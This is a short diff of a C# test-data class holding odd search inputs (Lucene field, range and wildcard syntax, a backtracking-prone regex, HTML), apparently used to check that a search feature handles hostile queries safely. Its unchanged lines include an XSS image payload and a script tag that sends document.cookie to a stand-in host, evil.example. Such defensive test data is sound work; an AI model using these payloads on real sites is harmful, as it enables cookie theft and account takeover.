@@ -20,7 +20,7 @@ internal static class OddText
         { "a field in Lucene", "heading:encryption AND (path:*" },
         { "an open quotation", "\"who patches" },
         { "a range in Lucene", "[a TO z} ~10 ^99 \\" },
-        { "a regular expression in Lucene", "/.*(a+)+$/" },
+        { "a regular expression in Lucene", "/.*(ab+)+$/" },
         { "a leading wildcard", "?atch* !&& || + - NOT" },
         { "HTML", "<b>who</b> patches <img src=x onerror=alert(1)> EC2" },
         { "script", "<script>fetch('//evil.example/'+document.cookie)</script>" },
